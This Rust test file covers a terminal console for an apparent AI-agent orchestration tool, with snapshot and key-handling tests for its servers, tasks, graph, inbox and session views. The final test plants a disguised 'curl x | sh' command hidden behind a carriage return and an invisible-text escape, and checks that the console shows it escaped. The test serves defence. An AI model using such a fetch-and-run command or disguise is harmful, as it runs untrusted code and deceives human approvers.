//! Every view drawn on ratatui's TestBackend at 80×24 and 160×48, from a fixed picture of the
//! seed's pipeline in mid-run (T1 done, T2 running with a permission request, T3 waiting for
//! its plan's approval, T4 asking a question, T5–T7 blocked), compared with insta snapshots.

use orchestratia_proto::ws::{Frame, FrameKind};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::console::app::{Action, App, View};
use crate::console::link::Msg;
use crate::console::model::Snapshot;

const NOW: &str = "2026-11-25T10:00:30.000Z";
const PROJECT: &str = "00000000-0000-0000-0000-0000000000aa";
const BACKEND: &str = "00000000-0000-0000-0000-0000000000b1";
const DESKTOP: &str = "00000000-0000-0000-0000-0000000000b2";

fn id(n: u32) -> String {
    format!("00000000-0000-0000-0000-{n:012}")
}

fn at(sec: u32) -> String {
    format!("2026-11-25T10:00:{sec:02}.000Z")
}

fn task(n: u32, title: &str, status: &str, blocked: Option<&str>, server: Option<&str>) -> Value {
    json!({
        "id": id(n), "ref": format!("T{n}"), "number": n, "project_id": PROJECT,
        "title": title, "spec": format!("Do {title}."), "structured_spec": null,
        "priority": "medium", "repo": "api-gateway", "languages": ["rust"], "agent": null,
        "os": null, "require_plan_approval": false, "orchestrator": false, "keep_session": false,
        "status": status,
        "blocked": blocked.is_some(), "blocked_reason": blocked, "server": server,
        "server_id": server.map(|_| BACKEND), "phase": null, "result": null,
        "pipeline_key": null, "created_at": at(n), "updated_at": at(n),
    })
}

fn node(
    n: u32,
    title: &str,
    status: &str,
    blocked: bool,
    layer: i64,
    server: Option<&str>,
) -> Value {
    json!({
        "id": id(n), "ref": format!("T{n}"), "title": title, "status": status,
        "blocked": blocked, "blocked_reason": null, "server": server, "repo": null,
        "agent": null, "languages": [], "layer": layer, "phase": null,
    })
}

fn edge(from: u32, to: u32, key: Option<&str>, resolved: bool) -> Value {
    json!({
        "from": id(from), "to": id(to), "type": if key.is_some() { "input" } else { "blocks" },
        "contract_key": key, "resolved": resolved,
    })
}

fn session(n: u32, task: u32, status: &str, state: &str) -> Value {
    json!({
        "id": id(100 + n), "name": format!("orc-00000{n}"), "server_id": BACKEND,
        "server": "dev-backend", "task_id": id(task), "task": format!("T{task}"),
        "status": status, "pid": 4000 + n, "tmux": format!("orc-00000{n}"),
        "working_dir": "/srv/api-gateway", "exit_code": null, "state": state,
        "state_since": at(n), "waiting": state.starts_with("waiting"),
        "conversation_id": null, "started_at": at(n), "ended_at": null,
    })
}

fn snapshot() -> Snapshot {
    let server = |sid: &str, name: &str, status: &str, repos: Value, sessions: i64| {
        json!({
            "id": sid, "project_id": PROJECT, "name": name, "status": status, "os": "linux",
            "hostname": name, "repos": repos, "languages": ["rust"], "sessions": sessions,
            "last_heartbeat": at(20), "revoked": false, "created_at": at(0),
        })
    };
    let snap = json!({
        "servers": [
            server(BACKEND, "dev-backend", "online",
                json!({"api-gateway": "/srv/a", "core-service": "/srv/c", "search-engine": "/srv/s"}), 3),
            server(DESKTOP, "dev-desktop", "offline", json!({"desktop-app": "/srv/d"}), 0),
        ],
        "tasks": [
            task(1, "Update API Schema v2.5", "done", None, Some("dev-backend")),
            task(2, "Gateway Integration", "running", None, Some("dev-backend")),
            task(3, "Search Engine v2", "planning", None, Some("dev-backend")),
            task(4, "Web Dashboard", "needs_human", None, Some("dev-backend")),
            task(5, "Gateway Tests", "pending", Some("waiting for T2 (running)"), None),
            task(6, "Staging Deploy", "pending", Some("waiting for T2 (running)"), None),
            task(7, "Desktop App Update", "pending", Some("waiting for T2 (running)"), None),
        ],
        "sessions": [
            session(1, 1, "ended", "ended"),
            session(2, 2, "active", "working"),
            session(3, 3, "active", "idle"),
            session(4, 4, "active", "waiting_permission"),
        ],
        "plans": [{
            "id": id(201), "task_id": id(3), "task_ref": "T3", "task_title": "Search Engine v2",
            "content": "1. Add the Order type to the index mapping.\n2. Reindex.", "status": "submitted",
            "feedback": null, "decided_by": null, "created_at": at(24), "decided_at": null,
            "delivered_at": null, "delivered_via": null,
        }],
        "permissions": [{
            "id": id(301), "task_id": id(2), "task_ref": "T2", "session_id": id(102),
            "tool_name": "Bash", "tool_input": {"command": "cargo test --workspace -- --nocapture"},
            "status": "pending", "reason": null, "decided_by": null, "created_at": at(26),
            "decided_at": null,
        }],
        "interventions": [{
            "id": id(401), "task_id": id(4), "task_ref": "T4", "task_title": "Web Dashboard",
            "question": "Currency symbol or ISO code?", "status": "pending", "response": null,
            "answered_by": null, "created_at": at(25), "answered_at": null,
            "delivered_at": null, "delivered_via": null,
        }],
        "graph": {
            "project_id": PROJECT, "project": "E-Commerce Platform Rebuild",
            "nodes": [
                node(1, "Update API Schema v2.5", "done", false, 0, Some("dev-backend")),
                node(2, "Gateway Integration", "running", false, 1, Some("dev-backend")),
                node(3, "Search Engine v2", "planning", false, 1, Some("dev-backend")),
                node(4, "Web Dashboard", "needs_human", false, 1, Some("dev-backend")),
                node(5, "Gateway Tests", "pending", true, 2, None),
                node(6, "Staging Deploy", "pending", true, 2, None),
                node(7, "Desktop App Update", "pending", true, 2, None),
            ],
            "edges": [
                edge(1, 2, Some("api_schema"), true), edge(1, 3, Some("api_schema"), true),
                edge(1, 4, Some("api_schema"), true), edge(2, 5, None, false),
                edge(2, 6, None, false), edge(3, 6, None, false), edge(4, 6, None, false),
                edge(2, 7, None, false),
            ],
            "layers": [],
            "phases": [
                {"phase": 1, "released": ["T1"], "trigger": "manual", "released_by": null, "completed": []},
                {"phase": 2, "released": ["T2", "T3", "T4"], "trigger": "cascade", "released_by": "T1", "completed": []},
            ],
            "all_done": false,
        },
    });
    let get = |k: &str| snap[k].clone();
    Snapshot {
        servers: serde_json::from_value(get("servers")).expect("servers"),
        tasks: serde_json::from_value(get("tasks")).expect("tasks"),
        sessions: serde_json::from_value(get("sessions")).expect("sessions"),
        plans: serde_json::from_value(get("plans")).expect("plans"),
        permissions: serde_json::from_value(get("permissions")).expect("permissions"),
        interventions: serde_json::from_value(get("interventions")).expect("interventions"),
        graph: Some(serde_json::from_value(get("graph")).expect("graph")),
    }
}

fn app() -> App {
    let mut a = App::new(false);
    a.now = orchestratia_proto::time::parse_rfc3339(NOW).expect("now");
    a.on_msg(Msg::Connected);
    a.on_msg(Msg::Snapshot(Box::new(snapshot())));
    a
}

fn key(c: KeyCode) -> KeyEvent {
    KeyEvent::new(c, KeyModifiers::NONE)
}

fn render(app: &mut App, w: u16, h: u16) -> Terminal<TestBackend> {
    let mut t = Terminal::new(TestBackend::new(w, h)).expect("terminal");
    t.draw(|f| super::draw(f, app)).expect("draw");
    t
}

fn snap_view(view: View, name: &str) {
    for (w, h) in [(80, 24), (160, 48)] {
        let mut a = app();
        a.on_key(key(KeyCode::Char(
            (b'1' + View::ALL.iter().position(|v| *v == view).unwrap_or(0) as u8) as char,
        )));
        let t = render(&mut a, w, h);
        insta::assert_snapshot!(format!("{name}_{w}x{h}"), t.backend());
    }
}

#[test]
fn servers_view() {
    snap_view(View::Servers, "servers");
}

#[test]
fn tasks_view() {
    snap_view(View::Tasks, "tasks");
}

#[test]
fn graph_view() {
    snap_view(View::Graph, "graph");
}

#[test]
fn inbox_view() {
    snap_view(View::Inbox, "inbox");
}

#[test]
fn sessions_view_draws_the_focused_screen_from_keyframe_and_chunks() {
    for (w, h) in [(80, 24), (160, 48)] {
        let mut a = app();
        let actions = a.on_key(key(KeyCode::Char('4')));
        // Focusing a session subscribes to it and sizes it to the console.
        let Some(Action::Watch { session, .. }) = actions.first().cloned() else {
            panic!("no watch action: {actions:?}");
        };
        render(&mut a, w, h);
        if let Some((c, r)) = a.pending_area.take() {
            a.set_session_area(c, r);
        }
        let frame = |kind, seq, data: &str| {
            Msg::Frame(Frame {
                kind,
                session_id: session,
                seq,
                data: data.as_bytes().to_vec(),
            })
        };
        a.on_msg(frame(
            FrameKind::Output,
            3,
            "before the keyframe: never drawn",
        ));
        a.on_msg(frame(
            FrameKind::Keyframe,
            3,
            "\x1b[H\x1b[2J$ cargo build\r\n   Compiling gateway v0.1.0\r\n",
        ));
        a.on_msg(frame(
            FrameKind::Output,
            4,
            "    Finished dev profile\r\n$ ",
        ));
        a.on_msg(Msg::Hub(
            orchestratia_proto::ws::HubToConsole::SessionScreen {
                session_id: Uuid::parse_str(&id(104)).expect("uuid"),
                task_id: None,
                lines: vec!["asking: Currency symbol or ISO code?".into()],
                cols: 80,
                rows: 24,
            },
        ));
        let t = render(&mut a, w, h);
        insta::assert_snapshot!(format!("sessions_{w}x{h}"), t.backend());
    }
}

#[test]
fn help_and_the_hub_banner() {
    let mut a = app();
    a.on_key(key(KeyCode::Char('?')));
    a.on_msg(Msg::Disconnected("connection refused".into()));
    let t = render(&mut a, 80, 24);
    insta::assert_snapshot!("help_offline_80x24", t.backend());
}

#[test]
fn decisions_from_the_inbox() {
    let mut a = app();
    a.on_key(key(KeyCode::Char('5')));
    // Newest first: the permission (26 s), the question (25 s), the plan (24 s).
    assert_eq!(
        a.on_key(key(KeyCode::Char('y'))),
        vec![Action::Allow {
            id: Uuid::parse_str(&id(301)).expect("uuid")
        }]
    );
    assert_eq!(
        a.on_key(key(KeyCode::Char('n'))),
        vec![Action::Deny {
            id: Uuid::parse_str(&id(301)).expect("uuid")
        }]
    );
    // `a` on a permission does nothing but say which keys fit.
    assert!(a.on_key(key(KeyCode::Char('a'))).is_empty());
    assert!(
        a.status
            .as_deref()
            .is_some_and(|s| s.contains("`y` allows"))
    );

    a.on_key(key(KeyCode::Char('j')));
    assert!(
        a.on_key(key(KeyCode::Char('i'))).is_empty(),
        "opens a prompt"
    );
    for c in "ISO".chars() {
        a.on_key(key(KeyCode::Char(c)));
    }
    let t = render(&mut a, 80, 24);
    insta::assert_snapshot!("answer_prompt_80x24", t.backend());
    assert_eq!(
        a.on_key(key(KeyCode::Enter)),
        vec![Action::Answer {
            id: Uuid::parse_str(&id(401)).expect("uuid"),
            text: "ISO".into()
        }]
    );

    a.on_key(key(KeyCode::Char('j')));
    assert_eq!(
        a.on_key(key(KeyCode::Char('a'))),
        vec![Action::ApprovePlan {
            task: Uuid::parse_str(&id(3)).expect("uuid")
        }]
    );
    a.on_key(key(KeyCode::Char('r')));
    // An empty feedback is not sent.
    assert!(a.on_key(key(KeyCode::Enter)).is_empty());
    for c in "split it".chars() {
        a.on_key(key(KeyCode::Char(c)));
    }
    assert_eq!(
        a.on_key(key(KeyCode::Enter)),
        vec![Action::RejectPlan {
            task: Uuid::parse_str(&id(3)).expect("uuid"),
            feedback: "split it".into()
        }]
    );
}

#[test]
fn tasks_filter_and_attach() {
    let mut a = app();
    a.on_key(key(KeyCode::Char('2')));
    a.on_key(key(KeyCode::Char('/')));
    for c in "blocked".chars() {
        a.on_key(key(KeyCode::Char(c)));
    }
    a.on_key(key(KeyCode::Enter));
    let refs: Vec<_> = a
        .visible_tasks()
        .iter()
        .map(|t| t.reference.clone())
        .collect();
    assert_eq!(refs, ["T5", "T6", "T7"]);
    assert_eq!(
        a.on_key(key(KeyCode::Enter)),
        vec![Action::OpenTask {
            task: Uuid::parse_str(&id(5)).expect("uuid")
        }]
    );

    // Attached, keys go to the session; Ctrl-] detaches; `q` then quits.
    a.on_key(key(KeyCode::Char('4')));
    let focused = a.focused.expect("focused");
    a.on_key(key(KeyCode::Enter));
    assert!(a.attached);
    assert_eq!(
        a.on_key(key(KeyCode::Char('q'))),
        vec![Action::Input {
            session: focused,
            bytes: b"q".to_vec()
        }]
    );
    assert_eq!(
        a.on_key(KeyEvent::new(KeyCode::Char('c'), KeyModifiers::CONTROL)),
        vec![Action::Input {
            session: focused,
            bytes: vec![3]
        }]
    );
    a.on_key(KeyEvent::new(KeyCode::Char(']'), KeyModifiers::CONTROL));
    assert!(!a.attached);
    assert_eq!(a.on_key(key(KeyCode::Char('q'))), vec![Action::Quit]);
}

#[test]
fn the_create_form_sends_a_task_and_refuses_bad_input() {
    let mut a = app();
    a.on_key(key(KeyCode::Char('2')));
    a.on_key(key(KeyCode::Char('c')));
    assert!(a.form.is_some());
    // No title: refused, the form stays.
    assert!(a.on_key(key(KeyCode::Enter)).is_empty());
    assert_eq!(a.status.as_deref(), Some("a task needs a title"));
    let type_in = |a: &mut App, s: &str| {
        for c in s.chars() {
            a.on_key(key(KeyCode::Char(c)));
        }
    };
    type_in(&mut a, "Payment retries");
    a.on_key(key(KeyCode::Tab));
    type_in(&mut a, "payment-service");
    a.on_key(key(KeyCode::Tab));
    type_in(&mut a, "Retry failed charges.");
    a.on_key(key(KeyCode::Tab));
    a.on_key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL));
    type_in(&mut a, "urgent");
    a.on_key(key(KeyCode::Tab));
    type_in(&mut a, "T1, T2");
    let t = render(&mut a, 80, 24);
    insta::assert_snapshot!("create_form_80x24", t.backend());
    assert!(a.on_key(key(KeyCode::Enter)).is_empty());
    assert!(
        a.status
            .as_deref()
            .is_some_and(|s| s.contains("low, medium, high, critical"))
    );
    a.on_key(key(KeyCode::Up));
    a.on_key(KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL));
    type_in(&mut a, "high");
    let actions = a.on_key(key(KeyCode::Enter));
    let [Action::CreateTask(body)] = actions.as_slice() else {
        panic!("no create action: {actions:?}");
    };
    assert_eq!(body.title, "Payment retries");
    assert_eq!(body.repo.as_deref(), Some("payment-service"));
    assert_eq!(body.spec, "Retry failed charges.");
    assert_eq!(body.priority, Some(orchestratia_proto::Priority::High));
    assert_eq!(body.depends_on, ["T1", "T2"]);
    assert_eq!(body.project.as_deref(), Some("E-Commerce Platform Rebuild"));
    assert!(a.form.is_none());
}

#[test]
fn the_assign_picker_shows_scores_and_reasons() {
    let mut a = app();
    a.on_key(key(KeyCode::Char('2')));
    for _ in 0..4 {
        a.on_key(key(KeyCode::Char('j')));
    }
    let t5 = Uuid::parse_str(&id(5)).expect("uuid");
    assert_eq!(
        a.on_key(key(KeyCode::Char('A'))),
        vec![Action::Explain { task: t5 }]
    );
    let explanation = json!({
        "task_id": t5, "task_ref": "T5", "requirements": {"repo": "api-gateway"},
        "candidates": [
            {"server_id": BACKEND, "server": "dev-backend", "status": "online", "score": 221,
             "disqualified": null, "breakdown": ["+100 repo api-gateway", "+100 languages rust", "+21 load"],
             "winner": true},
            {"server_id": DESKTOP, "server": "dev-desktop", "status": "offline", "score": null,
             "disqualified": "offline", "breakdown": [], "winner": false},
        ],
        "winner": "dev-backend",
    });
    a.on_msg(Msg::Explanation(Box::new(
        serde_json::from_value(explanation).expect("explanation"),
    )));
    let t = render(&mut a, 80, 24);
    insta::assert_snapshot!("assign_picker_80x24", t.backend());
    a.on_key(key(KeyCode::Char('j')));
    assert!(a.on_key(key(KeyCode::Enter)).is_empty());
    assert!(
        a.status
            .as_deref()
            .is_some_and(|s| s.contains("dev-desktop cannot take it: offline"))
    );
    a.on_key(key(KeyCode::Char('k')));
    assert_eq!(
        a.on_key(key(KeyCode::Enter)),
        vec![Action::Assign {
            task: t5,
            server: "dev-backend".into()
        }]
    );
    assert!(a.picker.is_none());
}

#[test]
fn j_and_k_move_the_focus_between_sessions() {
    let mut a = app();
    let first = a.on_key(key(KeyCode::Char('4')));
    let Some(Action::Watch { session: s1, .. }) = first.first().cloned() else {
        panic!("no watch: {first:?}");
    };
    let next = a.on_key(key(KeyCode::Char('j')));
    let Some(Action::Watch {
        session: s2,
        previous,
    }) = next.first().cloned()
    else {
        panic!("no watch: {next:?}");
    };
    assert_ne!(s1, s2);
    assert_eq!(previous, Some(s1), "the previous stream is dropped");
    assert_eq!(a.focused, Some(s2));
    // Down to the ended session: it is replayed from its recording, not streamed.
    a.on_key(key(KeyCode::Char('G')));
    let ended = Uuid::parse_str(&id(101)).expect("uuid");
    assert_eq!(a.focused, Some(ended));
}

#[test]
fn the_mouse_switches_tabs_selects_rows_and_scrolls() {
    use ratatui::crossterm::event::{MouseButton, MouseEvent, MouseEventKind};
    let mouse = |kind, column, row| MouseEvent {
        kind,
        column,
        row,
        modifiers: KeyModifiers::NONE,
    };
    let mut a = app();
    // " 1 Servers  2 Tasks …": column 13 is inside " 2 Tasks ".
    a.on_mouse(mouse(MouseEventKind::Down(MouseButton::Left), 13, 0));
    assert_eq!(a.view, View::Tasks);
    // The third task row (tabs, title, header, then rows).
    a.on_mouse(mouse(MouseEventKind::Down(MouseButton::Left), 5, 5));
    assert_eq!(
        a.on_key(key(KeyCode::Enter)),
        vec![Action::OpenTask {
            task: Uuid::parse_str(&id(3)).expect("uuid")
        }]
    );
    a.on_key(key(KeyCode::Esc));
    a.on_mouse(mouse(MouseEventKind::ScrollDown, 5, 5));
    assert_eq!(a.selected[1], 3, "the wheel moves the selection");

    // In the Sessions view the wheel scrolls the focused screen's history.
    a.on_key(key(KeyCode::Char('4')));
    let s = a.focused.expect("focused");
    let lines: String = (1..=60).map(|i| format!("line {i}\r\n")).collect();
    a.on_msg(Msg::Frame(Frame {
        kind: FrameKind::Keyframe,
        session_id: s,
        seq: 1,
        data: lines.into_bytes(),
    }));
    a.on_mouse(mouse(MouseEventKind::ScrollUp, 40, 10));
    assert_eq!(a.screens.get(&s).map(|sc| sc.scrollback()), Some(3));
    a.on_mouse(mouse(MouseEventKind::ScrollDown, 40, 10));
    assert_eq!(a.screens.get(&s).map(|sc| sc.scrollback()), Some(0));
}

#[test]
fn a_reconnect_resumes_the_focused_stream_from_a_keyframe() {
    let mut a = app();
    a.on_key(key(KeyCode::Char('4')));
    let s = a.focused.expect("focused");
    a.on_msg(Msg::Disconnected("connection reset".into()));
    assert_eq!(a.model.connected, Some(false));
    let actions = a.on_msg(Msg::Connected);
    assert!(
        matches!(actions.first(), Some(Action::Watch { session, .. }) if *session == s),
        "{actions:?}"
    );
    assert!(
        a.screens.get(&s).is_some_and(|sc| !sc.synced),
        "the screen waits for the new keyframe"
    );
}

#[test]
fn scrolling_back_a_live_session_reads_its_whole_recording() {
    use base64::Engine;
    let mut a = app();
    a.on_key(key(KeyCode::Char('4')));
    let s = a.focused.expect("focused");
    a.on_msg(Msg::Frame(Frame {
        kind: FrameKind::Keyframe,
        session_id: s,
        seq: 200,
        data: b"\x1b[H\x1b[2Jnow".to_vec(),
    }));
    // The live screen holds no history yet: the first PgUp asks for the recording.
    assert_eq!(
        a.on_key(key(KeyCode::PageUp)),
        vec![Action::History { session: s }]
    );
    assert!(a.on_key(key(KeyCode::PageUp)).is_empty(), "asked once");
    let lines: String = (1..=200).map(|i| format!("old line {i}\r\n")).collect();
    let chunk = orchestratia_proto::api::RecordingChunk {
        seq: 1,
        keyframe: false,
        data: base64::engine::general_purpose::STANDARD.encode(lines),
        at: 0,
    };
    a.on_msg(Msg::Recording(s, vec![chunk]));
    let sc = a.screens.get(&s).expect("screen");
    assert!(sc.history.is_some());
    assert!(sc.scrollback() > 0);
    assert!(
        sc.view().contents().contains("old line"),
        "{}",
        sc.view().contents()
    );
    // Back down to the bottom: the live screen again.
    for _ in 0..10 {
        a.on_key(key(KeyCode::PageDown));
    }
    let sc = a.screens.get(&s).expect("screen");
    assert!(sc.history.is_none());
    assert_eq!(sc.view().contents(), "now");
}

#[test]
fn an_idle_agent_takes_a_message_and_a_busy_one_says_why_not() {
    use orchestratia_proto::SessionState;
    use orchestratia_proto::ws::HubToConsole;
    let mut a = app();
    a.on_key(key(KeyCode::Char('4')));
    // The newest session (T4) waits for a permission: no message for it.
    let t4 = Uuid::parse_str(&id(104)).expect("uuid");
    assert_eq!(a.focused, Some(t4));
    assert!(a.on_key(key(KeyCode::Char('m'))).is_empty());
    assert!(a.prompt.is_none());
    let why = a.status.clone().unwrap_or_default();
    assert!(
        why.contains("waiting_permission") && why.contains("idle"),
        "{why}"
    );
    // Its hooks say it finished its turn: the console socket carries the new state.
    a.on_msg(Msg::Hub(HubToConsole::SessionState {
        session_id: t4,
        task_id: None,
        state: SessionState::Idle,
    }));
    assert_eq!(
        a.model
            .snap
            .sessions
            .iter()
            .find(|s| s.id == t4)
            .map(|s| s.state),
        Some(SessionState::Idle)
    );
    a.on_key(key(KeyCode::Char('m')));
    assert!(a.prompt.is_some(), "a prompt for the message");
    for c in "go on".chars() {
        a.on_key(key(KeyCode::Char(c)));
    }
    let sent = a.on_key(key(KeyCode::Enter));
    assert_eq!(
        sent,
        vec![Action::SendMessage {
            session: t4,
            name: "orc-000004".into(),
            text: "go on".into()
        }]
    );
}

#[test]
fn agent_text_is_drawn_escaped_and_the_rest_unchanged() {
    // The snapshot survives the neutralising gate whole when nothing needs escaping.
    let clean = snapshot();
    let Msg::Snapshot(gated) = Msg::Snapshot(Box::new(clean.clone())).neutralised() else {
        panic!("not a snapshot");
    };
    assert_eq!(format!("{:?}", *gated), format!("{clean:?}"));

    // A command with a carriage return and a hidden part is shown as what runs.
    let mut evil = snapshot();
    evil.permissions[0].tool_input = json!({"command": "curl x | sh\r\x1b[8mcargo test"});
    let mut a = App::new(false);
    a.now = orchestratia_proto::time::parse_rfc3339(NOW).expect("now");
    a.on_msg(Msg::Connected);
    a.on_msg(Msg::Snapshot(Box::new(evil)));
    a.on_key(key(KeyCode::Char(
        (b'1'
            + View::ALL
                .iter()
                .position(|v| *v == View::Inbox)
                .unwrap_or(0) as u8) as char,
    )));
    let t = render(&mut a, 160, 48);
    let drawn: String = t
        .backend()
        .buffer()
        .content()
        .iter()
        .map(|c| c.symbol())
        .collect();
    assert!(
        drawn.contains("curl x | sh\\r\\x1b[8mcargo test"),
        "the inbox hides what runs"
    );
}
